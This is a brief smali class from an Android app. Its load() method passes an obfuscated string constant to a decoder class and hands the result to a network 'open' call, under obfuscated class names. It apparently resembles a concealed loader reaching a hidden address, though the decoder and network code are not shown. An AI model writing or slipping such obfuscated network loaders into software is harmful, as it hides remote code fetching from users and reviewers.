.class public Ll1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "6A*E-\u000fq\u001a?Y2To\u001b-]1EpA;F*\u001a(\u0004qY1R7["
    invoke-static {v0}, Ll1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Ll1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

